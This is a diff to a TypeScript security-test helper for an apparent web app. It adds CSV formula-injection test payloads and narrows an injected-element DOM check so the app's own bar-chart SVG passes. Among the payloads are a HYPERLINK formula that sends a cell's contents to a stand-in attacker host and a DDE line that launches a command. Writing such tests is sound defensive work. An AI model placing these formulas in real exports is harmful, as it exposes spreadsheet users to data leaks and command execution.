@@ -68,6 +68,21 @@ const RAW_PAYLOADS: string[] = [
 /** Every payload with its own id, so a hit names the payload that ran. */
 export const XSS_PAYLOADS: XssPayload[] = RAW_PAYLOADS.map((text, i) => ({ id: 1000 + i, text: text.replaceAll('ID', String(1000 + i)) }));
 
+/**
+ * Text a spreadsheet would run as a formula when it opens an export (OWASP
+ * "CSV injection"): cells starting with = + - @, a tab or a carriage return.
+ * Harmless in a page; in a CSV cell each must arrive with a leading apostrophe.
+ */
+export const FORMULA_PAYLOADS: XssPayload[] = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"Klik") (ID)',
+  "=cmd|' /C calc'!A0 (ID)",
+  '+31 6 12345678 (ID)',
+  '-2+3 (ID)',
+  '@SUM(1+1) (ID)',
+  '=1+1;=2+2 (ID)',
+  '"=quoted" (ID)',
+].map((text, i) => ({ id: 2000 + i, text: text.replaceAll('ID', String(2000 + i)) }));
+
 /** Payloads that pass the Growth Test's simple e-mail check, so they get stored in an e-mail field too. */
 export const EMAIL_SHAPED_PAYLOADS = XSS_PAYLOADS.filter((p) => /^[^\s@]+@[^\s@]+\.[^\s@]+$/.test(p.text));
 
@@ -128,9 +143,11 @@ export async function findExecution(page: Page, dialogs: string[]): Promise<stri
         }
       }
     }
-    // Elements Koers never renders itself (a <details> it does: the resume link).
+    // Elements Koers never renders itself (a <details> it does: the resume link; an <svg> too: the bars of
+    // BarChart, class "bar", holding one <rect>, which the attribute check above has seen).
     for (const element of document.querySelectorAll('iframe, object, embed, base, meta[http-equiv], svg, math, video, audio, details[open]')) {
-      problems.push(`<${element.localName}> in the DOM`);
+      const ownBar = element.localName === 'svg' && element.getAttribute('class') === 'bar' && [...element.children].every((child) => child.localName === 'rect' && child.children.length === 0);
+      if (!ownBar) problems.push(`<${element.localName}> in the DOM`);
     }
     for (const script of document.querySelectorAll('script')) {
       // The app's own scripts are modules with a src or the hashed bootstrap; an injected one mentions xss(.
